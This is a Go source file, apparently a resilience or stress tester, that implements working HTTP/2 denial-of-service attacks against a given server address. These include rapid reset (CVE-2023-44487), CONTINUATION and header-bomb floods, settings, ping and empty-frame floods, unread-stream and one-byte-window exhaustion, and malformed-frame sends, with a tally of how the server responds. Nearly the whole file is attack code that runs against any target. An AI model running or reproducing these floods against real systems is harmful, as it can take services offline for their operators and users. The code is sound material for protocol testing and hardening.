package main

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// session is a connection that speaks HTTP/2 without good manners.
type session struct {
	*http2.Framer
	connection net.Conn
	head       []byte
	mutex      sync.Mutex
	statuses   map[string]bool
	end        chan string
}

// open connects by TLS and begins HTTP/2 with these settings.
func open(address string, tally *tally, settings ...http2.Setting) *session {
	dialer := &net.Dialer{Timeout: patience}
	connection, err := tls.DialWithDialer(dialer, "tcp", address, &tls.Config{
		InsecureSkipVerify: true,
		NextProtos:         []string{"h2"},
	})
	if err != nil {
		tally.count("not connected")
		return nil
	}
	kept <- connection
	if connection.ConnectionState().NegotiatedProtocol != "h2" {
		tally.count("no HTTP/2")
		return nil
	}
	tally.count("connected")
	_, _ = io.WriteString(connection, http2.ClientPreface)
	session := &session{
		Framer:     http2.NewFramer(connection, connection),
		connection: connection,
		head:       head("/metrics"),
		statuses:   map[string]bool{},
		end:        make(chan string, 1),
	}
	session.AllowIllegalWrites = true
	_ = session.WriteSettings(settings...)
	return session
}

// read takes whatever the server sends, until it ends the connection.
func (s *session) read() {
	decoder := hpack.NewDecoder(4096, func(field hpack.HeaderField) {
		if field.Name == ":status" {
			s.mutex.Lock()
			s.statuses[field.Value] = true
			s.mutex.Unlock()
		}
	})
	for {
		frame, err := s.ReadFrame()
		if err != nil {
			s.end <- last(err)
			return
		}
		switch frame := frame.(type) {
		case *http2.GoAwayFrame:
			s.end <- "go away: " + frame.ErrCode.String()
			return
		case *http2.HeadersFrame:
			_, _ = decoder.Write(frame.HeaderBlockFragment())
		}
	}
}

// ended tells how the server ended the connection, or that it did not for a while.
func (s *session) ended(tally *tally) {
	select {
	case how := <-s.end:
		tally.count(how)
	case <-time.After(3 * time.Second):
		tally.count("open")
	}
	s.mutex.Lock()
	defer s.mutex.Unlock()
	for status := range s.statuses {
		tally.count("status " + status)
	}
}

// head is a request in HPACK, with more fields if there are any.
func head(path string, more ...string) []byte {
	var buffer bytes.Buffer
	encoder := hpack.NewEncoder(&buffer)
	fields := append([]string{":method", "GET", ":scheme", "https", ":path", path, ":authority", "lookout"}, more...)
	for at := 0; at+1 < len(fields); at += 2 {
		_ = encoder.WriteField(hpack.HeaderField{Name: fields[at], Value: fields[at+1]})
	}
	return buffer.Bytes()
}

// ask opens a stream with a whole request.
func (s *session) ask(stream uint32) error {
	return s.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: s.head, EndStream: true, EndHeaders: true,
	})
}

// flood writes until the server has had enough, but no more than number times, and reads meanwhile.
func flood(address string, number int, tally *tally, write func(session *session, index int) error) {
	session := open(address, tally)
	if session == nil {
		return
	}
	go session.read()
	for index := range number {
		if err := write(session, index); err != nil {
			tally.count("stopped")
			break
		}
	}
	session.ended(tally)
}

// rapidReset opens streams and resets each at once (CVE-2023-44487).
func rapidReset(address string, number int, tally *tally) {
	flood(address, number, tally, func(session *session, index int) error {
		stream := uint32(2*index + 1)
		return errors.Join(session.ask(stream), session.WriteRSTStream(stream, http2.ErrCodeCancel))
	})
}

// manyStreams opens as many streams as it likes, whatever the server allows.
func manyStreams(address string, number int, tally *tally) {
	flood(address, number, tally, func(session *session, index int) error {
		return session.ask(uint32(2*index + 1))
	})
}

// continuation sends a head that never ends (CVE-2024-27316 and its kin).
func continuation(address string, number int, tally *tally) {
	flood(address, number, tally, func(session *session, index int) error {
		if index == 0 {
			return session.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: session.head})
		}
		fragment := head("/", fmt.Sprintf("x-%d", index), strings.Repeat("a", 8000))
		return session.WriteContinuation(1, false, fragment)
	})
}

// manySettings asks for acknowledgements that it may never read (CVE-2019-9515).
func manySettings(address string, number int, tally *tally) {
	flood(address, number, tally, func(session *session, index int) error {
		return session.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: uint32(16384 + index%1000)})
	})
}

// manyPings asks for answers and does not read them (CVE-2019-9512).
func manyPings(address string, number int, tally *tally) {
	session := open(address, tally)
	if session == nil {
		return
	}
	_ = session.connection.SetWriteDeadline(time.Now().Add(5 * time.Second))
	for range number {
		if session.WritePing(false, [8]byte{}) != nil {
			tally.count("stopped")
			break
		}
	}
}

// headerBomb refers again and again to one large field of the dynamic table.
func headerBomb(address string, number int, tally *tally) {
	flood(address, number, tally, func(session *session, index int) error {
		var buffer bytes.Buffer
		encoder := hpack.NewEncoder(&buffer)
		for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", "/metrics"}, {":authority", "lookout"}} {
			_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
		}
		for range 4000 {
			_ = encoder.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("a", 3000)})
		}
		block := buffer.Bytes()
		first, rest := block[:min(len(block), 16384)], block[min(len(block), 16384):]
		return errors.Join(
			session.WriteHeaders(http2.HeadersFrameParam{
				StreamID: uint32(2*index + 1), BlockFragment: first, EndStream: true, EndHeaders: len(rest) == 0,
			}),
			continued(session, uint32(2*index+1), rest),
		)
	})
}

func continued(session *session, stream uint32, rest []byte) error {
	for len(rest) > 0 {
		n := min(len(rest), 16384)
		if err := session.WriteContinuation(stream, n == len(rest), rest[:n]); err != nil {
			return err
		}
		rest = rest[n:]
	}
	return nil
}

// emptyFrames sends frames without content (CVE-2019-9518).
func emptyFrames(address string, number int, tally *tally) {
	flood(address, number, tally, func(session *session, index int) error {
		if index == 0 {
			return session.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: session.head, EndHeaders: true})
		}
		return session.WriteData(1, false, nil)
	})
}

// unreadStreams asks for as much as it may on each of number connections and reads nothing (CVE-2019-9511).
func unreadStreams(address string, number int, tally *tally) {
	each(number, func(int) {
		session := open(address, tally,
			http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
		if session == nil {
			return
		}
		_ = session.connection.SetWriteDeadline(time.Now().Add(5 * time.Second))
		_ = session.WriteWindowUpdate(0, 1<<30)
		for index := range 100 {
			if session.ask(uint32(2*index+1)) != nil {
				return
			}
		}
	})
}

// windowOfOneByte takes answers byte by byte.
func windowOfOneByte(address string, number int, tally *tally) {
	each(number, func(int) {
		session := open(address, tally, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
		if session == nil {
			return
		}
		go session.read()
		for index := range 50 {
			_ = session.ask(uint32(2*index + 1))
		}
		go func() {
			for session.WriteWindowUpdate(1, 1) == nil {
				time.Sleep(100 * time.Millisecond)
			}
		}()
	})
}

// brokenFrames sends frames that must not be: wrong streams, wrong sizes, unknown types.
func brokenFrames(address string, number int, tally *tally) {
	writes := []func(*session) error{
		func(s *session) error { return s.WriteData(1, true, []byte("on a stream that is idle")) },
		func(s *session) error { return s.ask(2) },
		func(s *session) error { return s.WriteRawFrame(http2.FrameSettings, 0, 0, []byte{1, 2, 3}) },
		func(s *session) error { return s.WriteRawFrame(http2.FrameWindowUpdate, 0, 0, []byte{0, 0, 0, 0}) },
		func(s *session) error { return s.WriteRawFrame(http2.FramePing, 0, 0, []byte{1}) },
		func(s *session) error { return s.WriteRawFrame(0xee, 0xff, 7, []byte("of no known type")) },
		func(s *session) error { return s.WriteContinuation(1, true, s.head) },
		func(s *session) error {
			return s.WriteRawFrame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, []byte{0xff, 0xff, 0xff, 0xff})
		},
		func(s *session) error { return errors.Join(s.ask(1), s.ask(1)) },
		func(s *session) error { return s.WriteRawFrame(http2.FrameData, 0, 1, make([]byte, 1<<20)) },
		func(s *session) error {
			return s.WritePushPromise(http2.PushPromiseParam{StreamID: 1, PromiseID: 2, BlockFragment: s.head, EndHeaders: true})
		},
		func(s *session) error { _, err := s.connection.Write(bytes.Repeat([]byte{0xff}, 4096)); return err },
	}
	each(number, func(index int) {
		session := open(address, tally)
		if session == nil {
			return
		}
		go session.read()
		_ = writes[index%len(writes)](session)
		session.ended(tally)
	})
}
